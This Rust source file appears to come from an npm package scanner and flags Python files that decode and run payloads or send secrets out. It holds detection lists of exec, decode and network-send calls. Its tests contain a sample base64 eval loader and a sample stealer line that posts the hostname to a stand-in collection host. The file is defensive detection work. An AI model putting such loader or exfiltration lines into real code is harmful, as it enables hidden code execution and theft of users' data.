//! Python files a package ships and runs (`python main.py` from an install script
//! or from its code): read for the shapes that give a loader or a stealer away,
//! without parsing Python. An npm package has no business shipping Python that
//! decodes and runs its own payload, or that sends the machine's secrets out.

use crate::capability::Ability;
use crate::js::apis::SinkKind;
use crate::js::kinds::{Kind, Mask};
use crate::js::literals::{self, HostClass};
use crate::js::strings;

/// Calls that run code given as text.
const RUNS: [&str; 3] = ["exec(", "eval(", "exec (compile"];

/// Calls that decode text into bytes or code.
const DECODES: [&str; 7] = [
    "b64decode(",
    "b32decode(",
    "decompress(",
    "marshal.loads(",
    "codecs.decode(",
    "bytes.fromhex(",
    "unhexlify(",
];

/// Calls that send over the network.
const SENDS: [&str; 9] = [
    "requests.post(",
    "requests.get(",
    "requests.put(",
    "httpx.post(",
    "httpx.get(",
    "urlopen(",
    "urllib.request.Request(",
    "http.client.HTTP",
    ".sendall(",
];

/// Calls that tell who and which machine it is.
const IDENTITY: [&str; 6] = [
    "socket.gethostname(",
    "getpass.getuser(",
    "platform.node(",
    "os.getlogin(",
    "platform.uname(",
    "os.uname(",
];

/// What a Python file's text shows, as abilities with the text that shows each.
pub(crate) fn abilities(text: &str) -> Vec<(Ability, String)> {
    let mut found = Vec::new();
    let has = |needles: &[&'static str]| -> Option<&'static str> {
        needles.iter().copied().find(|needle| text.contains(needle))
    };
    if let (Some(run), Some(decode)) = (has(&RUNS), has(&DECODES)) {
        found.push((
            Ability::RunsDecoded {
                via: SinkKind::Code,
            },
            format!("{run}…{decode}…)"),
        ));
    }
    let Some(send) = has(&SENDS) else {
        return found;
    };
    let markers = strings::markers(text);
    let mut data = Mask::EMPTY;
    for (present, kind) in [
        (markers.credential.is_some(), Kind::Credential),
        (markers.browser.is_some(), Kind::BrowserData),
        (markers.wallet.is_some(), Kind::WalletData),
        (markers.discord.is_some(), Kind::DiscordData),
        (has(&IDENTITY).is_some(), Kind::Identity),
        (text.contains("os.environ"), Kind::EnvAll),
    ] {
        if present {
            data = data.union(kind.bit());
        }
    }
    let hosts: Vec<(String, HostClass)> = literals::hosts_in(text);
    let host_mask = hosts.iter().fold(Mask::EMPTY, |mask, (_, class)| {
        mask.union(class.kind().bit())
    });
    // The strongest host names the destination.
    let host = hosts
        .iter()
        .find(|(_, class)| matches!(class, HostClass::Exfil(_)))
        .or_else(|| {
            hosts
                .iter()
                .find(|(_, class)| !matches!(class, HostClass::Known))
        })
        .or(hosts.first())
        .cloned();
    if !data.is_empty() {
        found.push((
            Ability::Sends {
                data,
                hosts: host_mask,
                via: SinkKind::Http,
                host,
            },
            send.to_owned(),
        ));
    } else if !hosts.is_empty() {
        found.push((
            Ability::Contacts {
                hosts: host_mask,
                host,
                via: SinkKind::Http,
            },
            send.to_owned(),
        ));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_obfuscated_loader_and_a_stealer_are_read() {
        let loader = "import base64\nmagic = 'aGVsbG8='\neval(compile(base64.b64decode(magic),'<string>','exec'))\n";
        assert!(matches!(
            abilities(loader).as_slice(),
            [(Ability::RunsDecoded { .. }, _)]
        ));
        let stealer = "import requests, socket\npath = 'Local Storage/leveldb'\nrequests.post('https://collect.example.invalid/x', data={'h': socket.gethostname()})\n";
        let found = abilities(stealer);
        assert!(
            found.iter().any(|(ability, _)| matches!(ability, Ability::Sends { data, .. } if data.has(Kind::DiscordData) && data.has(Kind::Identity))),
            "{found:?}"
        );
    }

    #[test]
    fn ordinary_build_scripts_show_nothing() {
        let gyp = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'pylib'))\nimport gyp\nsys.exit(gyp.script_main())\n";
        assert!(abilities(gyp).is_empty());
    }
}
